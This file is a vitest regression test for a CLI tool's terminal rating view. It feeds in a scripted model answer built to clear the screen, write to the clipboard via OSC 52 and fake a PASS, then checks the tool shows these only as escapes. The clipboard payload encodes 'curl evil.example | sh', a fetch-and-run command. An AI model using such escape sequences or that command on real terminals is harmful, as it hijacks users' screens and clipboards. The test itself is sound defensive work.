import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import Anthropic from '@anthropic-ai/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { anthropicMessage } from '../support/anthropic-messages-events.js';
import { cliPath, runCliAsync } from '../support/cli.js';
import { startScriptedUpstream } from '../support/scripted-upstream.js';
import { startTestProxy, temporaryFolder } from '../support/test-proxy.js';
import { tmuxAvailable } from '../support/tmux-pane.js';

// Regression for issue #30: the terminal rater printed model text raw, and escape sequences in
// it cleared the screen, set the clipboard (OSC 52) and painted a fake PASS.
const folder = temporaryFolder();
const cassette = join(folder, 'hostile.sqlite');
const clipboard = Buffer.from('curl evil.example | sh').toString('base64');
const hostile = `Done.\u001b[2J\u001b[H\u001b]52;c;${clipboard}\u0007\r\u001b[32mPASS\u001b[0m`;
/** A tmux server of its own, which takes OSC 52 into a paste buffer, so a clipboard write shows. */
const socket = `calltape-osc52-${process.pid}`;
const tmux = (...args: string[]): string =>
  execFileSync('/usr/bin/tmux', ['-L', socket, ...args], { encoding: 'utf8' });

async function recordHostileAnswer(): Promise<void> {
  const upstream = await startScriptedUpstream([
    { kind: 'json', body: anthropicMessage({ text: hostile }) },
  ]);
  const recorder = await startTestProxy('http://127.0.0.1:1', {
    anthropicUpstream: upstream.url,
    cassette,
    mode: 'record',
  });
  const client = new Anthropic({
    apiKey: 'sk-ant-test-key-0123456789abcdef',
    baseURL: recorder.url,
    maxRetries: 0,
    defaultHeaders: { 'x-calltape-session': 'hostile' },
  });
  await client.messages.create({
    model: 'claude-sonnet-4-5',
    max_tokens: 64,
    messages: [{ role: 'user', content: 'Say done.' }],
  });
  await recorder.close();
  await upstream.close();
}

async function screenWith(text: string): Promise<string> {
  let screen = '';
  for (let attempt = 0; attempt < 400; attempt += 1) {
    screen = tmux('capture-pane', '-p', '-J', '-t', 'rate');
    if (screen.includes(text)) return screen;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`the terminal never showed "${text}"; it shows:\n${screen}`);
}

beforeAll(async () => {
  await recordHostileAnswer();
  // Builds dist/ when it is missing, as every CLI test does.
  await runCliAsync(['--version']);
}, 120_000);
afterAll(() => {
  if (tmuxAvailable) tmux('kill-server');
});

describe.skipIf(!tmuxAvailable)('calltape rate on a terminal, shown a hostile answer', () => {
  it('shows its control characters as escapes, and none reaches the terminal', async () => {
    tmux('start-server', ';', 'set-option', '-s', 'set-clipboard', 'on');
    tmux(
      'new-session',
      '-d',
      '-s',
      'rate',
      '-x',
      '200',
      '-y',
      '60',
      `cd ${folder} && ${process.execPath} ${cliPath} rate ${cassette} --ratings ${join(folder, 'ratings.sqlite')}; sleep 600`,
    );
    const screen = await screenWith('p pass · f fail · s skip · n note · b back · q quit');
    // The screen was not cleared past the run's header, and the text shows what it held.
    expect(screen).toContain(`── ${cassette}#hostile`);
    expect(screen).toContain(
      `Done.\\u001b[2J\\u001b[H\\u001b]52;c;${clipboard}\\u0007\\u000d\\u001b[32mPASS\\u001b[0m`,
    );
    // No OSC 52 reached tmux: it would have become a paste buffer.
    expect(tmux('list-buffers')).toBe('');
  });
});
